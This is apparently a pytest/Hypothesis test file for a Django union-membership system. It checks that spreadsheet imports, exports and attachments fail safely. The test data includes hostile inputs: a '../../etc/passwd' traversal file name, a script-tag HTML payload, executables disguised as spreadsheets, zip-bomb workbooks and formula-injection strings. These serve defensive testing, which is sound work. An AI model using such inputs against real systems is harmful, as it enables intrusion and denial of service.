def test_an_error_while_writing_leaves_no_member_and_no_counter_behind(
    request,
    newcomers,
    batch,
    fail_at,
    where,
    error,
    tree,
    officers,
    people,
    media_root,
    django_capture_on_commit_callbacks,
):
    ran(request)
    rows = [people.row(0)] + [
        person_row(
            f"新会员{han_number(n)}", make_id_number(region="110105", serial=n), "13900000000"
        )
        for n in range(newcomers)
    ]
    sheet = SheetFile("会员.xlsx", xlsx_bytes(HEADERS, rows), data_row_numbers(rows), False)
    capture = django_capture_on_commit_callbacks
    targets = {
        "bulk_enrol": (enrolment, "bulk_enrol"),
        "members": (Member.objects, "bulk_create"),
        "events": (MembershipEvent.objects, "bulk_create"),
        "numbers": (enrolment, "new_membership_numbers"),
        "counters": (counters, "adjust"),
        "audit": (enrolment, "record_audit"),
    }
    calls = Counter()
    with rolled_back():
        before = written_state()
        job = upload_members(sheet, officers.a_admin, tree.union_a, capture)
        assert job.status == ImportStatus.VALIDATED, job.errors
        owner, name = targets[where]
        original = getattr(owner, name)

        def failing(*args, **kwargs):
            calls[where] += 1
            if calls[where] == fail_at:
                raise error("injected")
            return original(*args, **kwargs)

        raised = None
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(imports, "WRITE_BATCH", batch)
            patch.setattr(owner, name, failing)
            try:
                job = confirm_members(job, officers.a_admin, capture)
            except (RuntimeError, DatabaseError) as exception:
                raised = exception  # the task re-raises for its log, after marking the job
        job.refresh_from_db()
        assert_clear_errors(job)
        if calls[where] >= fail_at:
            assert job.status == ImportStatus.FAILED
            assert written_state() == before, "a failed import wrote something"
            # A conflict is reported as such; anything else also stops the task.
            assert (raised is None) == (error is IntegrityError), raised
            # (After a raise, the deletion waits for a commit that a test never makes.)
            assert raised or not job.file
        else:
            assert raised is None and job.status == ImportStatus.DONE
            assert job.result["created"] == newcomers and job.result["unchanged"] == 1
            assert written_state()[0] == before[0] + newcomers
        assert_counters_exact()


# --- Payroll import (dues) ----------------------------------------------------------------

PAYROLL_KINDS = ("by_number", "by_id", "duplicate", "stranger", "unknown", "formula", "invalid")
PAYROLL_KINDS += ("empty",)
METHODS = ("", "工资代扣", "现金", "银行转账", "微信", "支付宝", "cash", " Alipay ")


class Earners:
    """Active members of union A (four) and of union B (one), with their raw identifiers."""

    def __init__(self, tree):
        self.same, self.other = [], []
        for org, group in ((tree.union_a, self.same),) * 4 + ((tree.union_b, self.other),):
            raw = person_data()
            member = make_member(org, **{k: raw[k] for k in ("name", "id_number", "phone")})
            group.append((member.membership_number, raw["id_number"]))


@pytest.fixture
def earners(tree):
    return Earners(tree)


def last_month() -> datetime.date:
    return (TODAY.replace(day=1) - datetime.timedelta(days=1)).replace(day=1)


@st.composite
def payroll_cells(draw, number: str, id_number: str, by_id: bool) -> list[str]:
    wage = draw(st.decimals(min_value=0, max_value=50_000, places=2))
    due = compute_dues(wage)
    paid, paid_on, method = "", "", ""
    if draw(st.booleans()):
        paid = str((due * draw(st.integers(0, 100)) / 100).quantize(CENT, "ROUND_DOWN"))
        if draw(st.booleans()):
            day = draw(st.dates(TODAY - datetime.timedelta(days=400), TODAY))
            paid_on = day.strftime(draw(st.sampled_from(["%Y-%m-%d", "%Y/%m/%d"])))
        method = draw(st.sampled_from(METHODS))
    key = ["", id_number] if by_id else [number, ""]
    return [*key, draw(amount_as_written(wage)), paid, paid_on, method]


@st.composite
def payroll_files(draw, earners) -> SheetFile:
    careful = draw(st.booleans())
    kinds = draw(
        st.lists(
            st.sampled_from(("by_number", "by_id", "empty") if careful else PAYROLL_KINDS),
            max_size=8,
        )
    )
    free = list(earners.same)
    rows, good, bad, used = [], set(), set(), []
    for number, kind in enumerate(kinds, start=2):
        if kind in ("by_number", "by_id") and not free:
            kind = "duplicate"
        if kind == "duplicate" and not used:
            kind = "stranger"
        if kind in ("by_number", "by_id", "formula", "invalid") and free:
            person = free.pop(draw(st.integers(0, len(free) - 1)))
        else:
            person = draw(st.sampled_from(earners.same))
        row = draw(payroll_cells(*person, by_id=kind == "by_id"))
        if kind == "duplicate":
            row = draw(payroll_cells(*draw(st.sampled_from(used)), by_id=draw(st.booleans())))
        elif kind == "stranger":
            row = draw(payroll_cells(*earners.other[0], by_id=draw(st.booleans())))
        elif kind == "unknown":
            row[:2] = [draw(st.text(alphabet="0123456789", min_size=16, max_size=16)), ""]
        elif kind == "formula":
            row[draw(st.integers(0, 5))] = draw(st.sampled_from(FORMULAS))
        elif kind == "invalid":
            row[draw(st.integers(0, 5))] = draw(
                st.one_of(hostile_text, amounts.map(str).flatmap(mutated))
            )
        elif kind == "empty":
            row = ["", " ", "", "", "\u3000", ""]
        if kind in ("by_number", "by_id"):
            good.add(number)
            used.append(person)
        elif kind in ("duplicate", "stranger", "unknown", "formula"):
            bad.add(number)
        # (An "invalid" row's member may or may not be found: no later row names them.)
        rows.append(row)
    headers = list(payroll.PAYROLL_HEADERS)
    formats = ["xlsx", "utf-8", "utf-8-sig", "gb18030"]
    fmt = draw(st.sampled_from(formats if careful else [*formats, "xlsx", "corrupt", "random"]))
    if fmt == "xlsx":
        rows = [[plain_cells(v) for v in row] for row in rows]
        content = xlsx_bytes(headers, rows)
        return SheetFile("工资.xlsx", content, data_row_numbers(rows), False, good, bad)
    if fmt == "corrupt":
        content, must_refuse = draw(
            corrupt(xlsx_bytes(headers, [[plain_cells(v) for v in r] for r in rows]))
        )
        return SheetFile("工资.xlsx", content, None, True if must_refuse else None)
    if fmt == "random":
        return SheetFile("工资.csv", draw(st.binary(max_size=2000)), None, True)
    rows = [[v.replace("\x00", "") for v in row] for row in rows]
    content = csv_bytes(headers, rows, fmt)
    return SheetFile("工资.csv", content, data_row_numbers(rows), False, good, bad)


def dues_state() -> tuple:
    stored = OrgCounter.objects.filter(key__startswith="members.dues.").exclude(value=0)
    return (
        sorted(
            DuesRecord.objects.values_list("member_id", "wage_base", "amount_due", "amount_paid")
        ),
        sorted(Member.objects.exclude(wage_base=None).values_list("pk", "wage_base")),
        sorted(stored.values_list("organization_id", "key", "value")),
    )


def upload_payroll(sheet: SheetFile, user, org, capture) -> ImportJob:
    with capture(execute=True):
        job = payroll.create_payroll_job(
            organization=org,
            period=last_month(),
            file=SimpleUploadedFile(sheet.name, sheet.content),
            acting_user=user,
        )
    job.refresh_from_db()
    return job


@pytest.mark.django_db
@budget("imports")
@given(data=st.data())
def test_payroll_import_of_any_file_ends_clearly_counts_every_row_and_writes_all_or_nothing(
    request, data, tree, officers, earners, media_root, django_capture_on_commit_callbacks
):
    ran(request)
    sheet = data.draw(payroll_files(earners))
    capture = django_capture_on_commit_callbacks
    with rolled_back():
        before = dues_state()
        job = upload_payroll(sheet, officers.a_admin, tree.union_a, capture)
        event(f"checked: {job.status} {sorted({e['code'] for e in job.errors if 'code' in e})[:3]}")

        assert job.status in (ImportStatus.VALIDATED, ImportStatus.INVALID), job.status
        assert_clear_errors(job)
        reported = {e["row"] for e in job.errors}
        refused = True if sheet.data_rows == [] else sheet.refused
        file_level = reported & {None, 1} or (sheet.data_rows == [] and reported == {2})
        if refused:
            assert job.status == ImportStatus.INVALID and file_level, job.errors
        elif refused is False:
            assert not file_level, job.errors
            assert job.result["rows"] == len(sheet.data_rows)
            assert reported <= set(sheet.data_rows)
            assert not reported & sheet.good, job.errors
            assert sheet.bad <= reported, job.errors
        if job.status == ImportStatus.INVALID:
            assert dues_state() == before
            assert not job.file
            return

        with capture(execute=True):
            payroll.confirm_payroll_file(job=job, acting_user=officers.a_admin)
        job.refresh_from_db()
        assert job.status == ImportStatus.DONE, job.errors
        result = job.result
        assert result["dues_created"] + result["dues_updated"] == result["rows"]
        records, wages, _counters = dues_state()
        assert len(records) == len(before[0]) + result["dues_created"]
        assert all(type(wage) is Decimal for _pk, wage in wages)
        for _member, wage, due, paid in records:
            assert all(type(v) is Decimal for v in (wage, due, paid))
            assert 0 <= paid <= due
        drift = counters.verify(["members."])
        assert drift.ok, drift.wrong
        assert not job.file


@pytest.mark.django_db
@budget("faults")
@given(
    fail_at=st.integers(1, 2),
    where=st.sampled_from(["members", "records", "updates", "counters", "audit"]),
    error=st.sampled_from([RuntimeError, IntegrityError, DatabaseError]),
)
def test_an_error_while_writing_the_payroll_leaves_no_dues_behind(
    request,
    fail_at,
    where,
    error,
    tree,
    officers,
    earners,
    media_root,
    django_capture_on_commit_callbacks,
):
    ran(request)
    capture = django_capture_on_commit_callbacks
    rows = [[number, "", "5000", "25.00", "", "现金"] for number, _id in earners.same]
    sheet = SheetFile("工资.xlsx", xlsx_bytes(payroll.PAYROLL_HEADERS, rows), [2, 3, 4, 5], False)
    targets = {
        "members": (Member.objects, "bulk_update"),
        "records": (DuesRecord.objects, "bulk_create"),
        "updates": (DuesRecord.objects, "bulk_update"),
        "counters": (counters, "adjust"),
        "audit": (payroll, "record_audit"),
    }
    calls = Counter()
    with rolled_back():
        before = dues_state()
        job = upload_payroll(sheet, officers.a_admin, tree.union_a, capture)
        assert job.status == ImportStatus.VALIDATED, job.errors
        owner, name = targets[where]
        original = getattr(owner, name)

        def failing(*args, **kwargs):
            calls[where] += 1
            if calls[where] == fail_at:
                raise error("injected")
            return original(*args, **kwargs)

        raised = None
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(owner, name, failing)
            try:
                with capture(execute=True):
                    payroll.confirm_payroll_file(job=job, acting_user=officers.a_admin)
            except (RuntimeError, DatabaseError) as exception:
                raised = exception
        job.refresh_from_db()
        assert_clear_errors(job)
        if calls[where] >= fail_at:
            # Failing while confirming leaves the file checked (and nothing else changed).
            assert raised is not None
            assert job.status in (ImportStatus.FAILED, ImportStatus.VALIDATED)
            assert dues_state() == before, "a failed payroll import wrote something"
        else:
            assert raised is None and job.status == ImportStatus.DONE
            assert job.result["dues_created"] == 4


# --- Exports: nothing stored is ever written as a formula ---------------------------------

stored_text = st.one_of(st.sampled_from(FORMULAS), hostile_text, st.just("\x01=1+1")).map(
    lambda text: text.replace("\x00", "")
)


def assert_no_formula_cells(content: bytes, fmt: str) -> None:
    if fmt == "csv":
        for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")):
            assert not any(spreadsheets.is_formula(v) for v in row), row
        return
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                assert not (isinstance(cell.value, str) and spreadsheets.is_formula(cell.value))


@pytest.mark.django_db
@budget("uploads")
@given(people=st.lists(st.tuples(stored_text, stored_text, stored_text), min_size=1, max_size=4))
def test_export_escapes_every_formula_and_survives_any_stored_text(request, people, tree, officers):
    """Text stored before the checks (legacy data, other paths) is exported safely."""
    ran(request)
    with rolled_back():
        numbers = new_membership_numbers(len(people))
        for number, (name, employer, job) in zip(numbers, people, strict=True):
            member = Member(
                organization=tree.union_a,
                membership_number=number,
                join_date=TODAY,
                name=name[:60],
                employer=employer[:200],
                job=job[:100],
            )
            member.set_id_number(make_id_number(region="110105"))
            member.set_phone("13800138000")
            member.save()
        members = Member.objects.filter(organization=tree.union_a)
        for fmt in ("xlsx", "csv"):
            content = exports.export_members(
                queryset=members, acting_user=officers.a_admin, fmt=fmt
            )
            assert_no_formula_cells(content, fmt)


# --- Limits: rows, unpacked size, upload size and type ------------------------------------


def test_the_unpacked_size_limit_leaves_room_for_a_full_member_file():
    rows = [
        person_row(
            f"欧阳测试{han_number(i)}", make_id_number(region="110105", serial=i), "13900000000"
        )
        for i in range(1000)
    ]
    with zipfile.ZipFile(io.BytesIO(xlsx_bytes(HEADERS, rows))) as archive:
        per_row = sum(i.file_size for i in archive.infolist()) / len(rows)
    assert per_row * spreadsheets.MAX_ROWS * 2 < spreadsheets.MAX_UNPACKED_BYTES


def test_a_workbook_that_unpacks_too_far_is_refused_before_it_is_read(monkeypatch):
    bomb = bomb_xlsx(1000)
    assert len(bomb) < 50_000  # small to upload, 2 MB unpacked
    monkeypatch.setattr(spreadsheets, "MAX_UNPACKED_BYTES", 1024 * 1024)
    with pytest.raises(spreadsheets.SpreadsheetError, match=" 1 MB") as refused:
        spreadsheets.read_table(io.BytesIO(bomb), "bomb.xlsx")
    assert user_message(str(refused.value))


@pytest.mark.django_db
@pytest.mark.parametrize("limit", ["rows", "unpacked"])
def test_member_import_refuses_a_bomb_whose_stated_size_lies(
    limit, tree, officers, media_root, django_capture_on_commit_callbacks, monkeypatch
):
    monkeypatch.setattr(spreadsheets, "MAX_ROWS", 50)
    monkeypatch.setattr(spreadsheets, "MAX_UNPACKED_BYTES", 1024 * 1024)
    bomb = bomb_xlsx(60 if limit == "rows" else 600)  # each states one data row
    sheet = SheetFile("会员.xlsx", bomb, None, True)
    job = upload_members(sheet, officers.a_admin, tree.union_a, django_capture_on_commit_callbacks)
    assert job.status == ImportStatus.INVALID
    code = "too_many_rows" if limit == "rows" else "unreadable"
    assert [e["code"] for e in job.errors] == [code], job.errors
    assert_clear_errors(job)
    assert not Member.objects.filter(name__startswith="哈").exists()


@pytest.mark.django_db
@pytest.mark.parametrize("limit", ["rows", "unpacked"])
def test_payroll_import_refuses_a_bomb_whose_stated_size_lies(
    limit, tree, officers, media_root, django_capture_on_commit_callbacks, monkeypatch
):
    monkeypatch.setattr(spreadsheets, "MAX_ROWS", 50)
    monkeypatch.setattr(spreadsheets, "MAX_UNPACKED_BYTES", 1024 * 1024)
    if limit == "rows":
        bomb = bomb_xlsx(60, payroll.PAYROLL_HEADERS, "4321")
    else:
        bomb = bomb_xlsx(1200, payroll.PAYROLL_HEADERS)
    sheet = SheetFile("工资.xlsx", bomb, None, True)
    job = upload_payroll(sheet, officers.a_admin, tree.union_a, django_capture_on_commit_callbacks)
    assert job.status == ImportStatus.INVALID
    assert_clear_errors(job)
    message = job.errors[0]["message"]
    assert (" 50 " in message) if limit == "rows" else (" 1 MB" in message), message
    assert not DuesRecord.objects.exists()


def http_name(text: str) -> str | None:
    """A file name as Django's multipart parser hands it over (or None: no file)."""
    name = "".join(c for c in text.rsplit("/")[-1].rsplit("\\")[-1] if c.isprintable())
    return None if name in ("", ".", "..") else name


upload_names = st.builds(
    lambda stem, ext: f"{stem}.{ext}" if ext else stem,
    st.one_of(st.text(max_size=300), st.sampled_from(["会员名单", "../../etc/passwd", "a\\b"])),
    st.sampled_from(["xlsx", "XLSX", "csv", "Csv", "xls", "xlsm", "exe", "csv.exe", "", "pdf"]),
).map(http_name)


@pytest.mark.django_db
@budget("uploads")
@given(name=upload_names)
def test_uploads_are_accepted_only_as_xlsx_or_csv_whatever_their_name(
    request, name, tree, officers, media_root, django_capture_on_commit_callbacks
):
    ran(request)
    if name is None:
        return
    accepted = name.lower().endswith((".xlsx", ".csv"))
    content = xlsx_bytes(HEADERS, [])
    with rolled_back():
        for start in (
            lambda f: imports.start_member_import(
                organization=tree.union_a, uploaded_file=f, acting_user=officers.a_admin
            ),
            lambda f: payroll.create_payroll_job(
                organization=tree.union_a, period=last_month(), file=f, acting_user=officers.a_admin
            ),
        ):
            try:
                with django_capture_on_commit_callbacks(execute=True):
                    job = start(SimpleUploadedFile(name, content))
            except ValidationError as error:
                assert not accepted, error
                assert set(error.message_dict) == {"file"}
                assert all(CJK.search(m) for m in error.messages)
            else:
                assert accepted
                job.refresh_from_db()
                assert job.status in (ImportStatus.VALIDATED, ImportStatus.INVALID)


def oversized(name: str, limit: int) -> SimpleUploadedFile:
    upload = SimpleUploadedFile(name, b"PK\x03\x04")
    upload.size = limit + 1  # what the request said; nothing that large is built
    return upload


@pytest.mark.django_db
def test_uploads_over_the_size_limits_are_refused_by_forms_and_actions(tree, officers):
    from members.forms.dues import PayrollUploadForm
    from members.forms.spreadsheets import MemberImportForm
    from services.actions.voice import MAX_ATTACHMENT_BYTES, check_attachment

    assert imports.MAX_UPLOAD_BYTES == 50 * 1024 * 1024
    assert payroll.MAX_UPLOAD_BYTES == 20 * 1024 * 1024
    assert MAX_ATTACHMENT_BYTES == 5 * 1024 * 1024
    big = oversized("会员.xlsx", imports.MAX_UPLOAD_BYTES)
    with pytest.raises(ValidationError) as refused:
        imports.start_member_import(
            organization=tree.union_a, uploaded_file=big, acting_user=officers.a_admin
        )
    assert "50 MB" in refused.value.messages[0]
    form = MemberImportForm({"organization": tree.union_a.pk}, {"file": big}, user=officers.a_admin)
    assert not form.is_valid() and "50 MB" in form.errors["file"][0]

    big = oversized("工资.xlsx", payroll.MAX_UPLOAD_BYTES)
    with pytest.raises(ValidationError) as refused:
        payroll.create_payroll_job(
            organization=tree.union_a, period=last_month(), file=big, acting_user=officers.a_admin
        )
    assert "20 MB" in refused.value.messages[0]
    form = PayrollUploadForm(
        {"organization": tree.union_a.pk, "period": last_month().strftime("%Y-%m")},
        {"file": big},
        unions=type(tree.union_a).objects.filter(pk=tree.union_a.pk),
    )
    assert not form.is_valid() and "20 MB" in form.errors["file"][0]

    with pytest.raises(ValidationError) as refused:
        check_attachment(oversized("工资条.pdf", MAX_ATTACHMENT_BYTES))
    assert "5 MB" in refused.value.messages[0]


def test_django_keeps_large_uploads_out_of_memory(settings):
    """Django does not limit a file part's size (the views do, and a proxy should): what it
    must do is spool big uploads to disk and cap the rest of the request body."""
    assert settings.FILE_UPLOAD_MAX_MEMORY_SIZE <= 5 * 1024 * 1024
    assert "django.core.files.uploadhandler.TemporaryFileUploadHandler" in (
        settings.FILE_UPLOAD_HANDLERS
    )
    assert settings.DATA_UPLOAD_MAX_MEMORY_SIZE is not None
    assert settings.DATA_UPLOAD_MAX_MEMORY_SIZE <= 10 * 1024 * 1024
    assert settings.DATA_UPLOAD_MAX_NUMBER_FILES is not None


# Concern attachments: PDF, JPEG, PNG or Word, at most 5 MB, told by their content.


def docx_bytes(document: bool = True) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml" if document else "xl/workbook.xml", "<w/>")
    return buffer.getvalue()


CONTENTS = {
    "pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj",
    "jpeg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00",
    "png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
    "docx": docx_bytes(),
    "zip": docx_bytes(document=False),
    "html": b"<html><script>alert(1)</script>",
    "empty": b"",
}
MATCHES = {"pdf": "pdf", "jpg": "jpeg", "jpeg": "jpeg", "png": "png", "docx": "docx"}


@budget("parsers")
@given(
    stem=st.text(max_size=40),
    extension=st.sampled_from([*MATCHES, "PDF", "Png", "exe", "svg", "html", "doc", ""]),
    kind=st.sampled_from(sorted(CONTENTS)),
    tail=st.binary(max_size=200),
)
def test_concern_attachments_are_told_by_their_content(request, stem, extension, kind, tail):
    from services.actions.voice import check_attachment

    ran(request)
    content = CONTENTS[kind] + (tail if kind not in ("empty", "docx", "zip") else b"")
    name = f"{stem}.{extension}" if extension else stem
    expected = MATCHES.get(extension.lower()) == kind and kind != "empty"
    try:
        result = check_attachment(SimpleUploadedFile(http_name(name) or "x", content))
    except ValidationError as error:
        assert not expected or http_name(name) is None, error
        assert set(error.message_dict) == {"attachment"}
        assert all(CJK.search(m) for m in error.messages)
        return
    assert expected
    assert result == ("jpg" if kind == "jpeg" else kind)


@pytest.mark.django_db
def test_a_refused_attachment_raises_no_concern(tree, media_root):
    from services.actions.voice import raise_concern
    from services.models import Concern

    member = make_member(tree.union_a)
    data = {
        "category": Concern._meta.get_field("category").choices[0][0],
        "title": "工资",
        "text": "拖欠",
    }
    for upload in (
        SimpleUploadedFile("工资条.pdf", CONTENTS["html"]),
        SimpleUploadedFile("照片.png", CONTENTS["jpeg"]),
        oversized("工资条.pdf", 5 * 1024 * 1024),
    ):
        with pytest.raises(ValidationError):
            raise_concern(member=member, data=data, attachment=upload)
    assert not Concern.objects.exists()
    concern = raise_concern(
        member=member, data=data, attachment=SimpleUploadedFile("照片.png", CONTENTS["png"])
    )
    assert concern.attachment.name.endswith(".png") and "照片" not in concern.attachment.name


@pytest.mark.django_db
def test_a_credit_code_typed_full_width_is_stored_and_found_as_ascii(
    tree, officers, media_root, django_capture_on_commit_callbacks
):
    code = make_uscc("330106")
    union = OrganizationFactory(
        name="杭州丙公司工会",
        parent=tree.xihu,
        region_code="330106",
        uscc=code.translate(FULL_WIDTH),
    )
    assert union.uscc == code
    row = person_row("张三", make_id_number(region="110105"), "13800138000")
    row[HEADERS.index(columns.UNION_HEADER)] = f" {code[:9]}\u3000{code[9:].translate(FULL_WIDTH)}"
    grant_role(user=officers.a_admin, organization=union, role="admin")
    sheet = SheetFile("会员.xlsx", xlsx_bytes(HEADERS, [row]), [2], False)
    job = upload_members(sheet, officers.a_admin, tree.union_a, django_capture_on_commit_callbacks)
    assert job.status == ImportStatus.VALIDATED, job.errors
    assert job.result["unions"] == [union.pk]


@pytest.mark.django_db
def test_the_import_page_refuses_other_files_with_a_message(client, tree, officers, media_root):
    from django.urls import reverse

    client.force_login(officers.a_admin)
    url = reverse("admin:members_member_import")
    for name, content in (
        ("名单.exe", b"MZ\x90\x00"),
        ("名单.xlsx.exe", xlsx_bytes(HEADERS, [])),
        ("名单", b"a,b"),
    ):
        response = client.post(
            url, {"organization": tree.union_a.pk, "file": SimpleUploadedFile(name, content)}
        )
        assert response.status_code == 200
        assert response.context["form"].errors["file"], name
        assert all(CJK.search(m) for m in response.context["form"].errors["file"])
    assert not ImportJob.objects.exists()
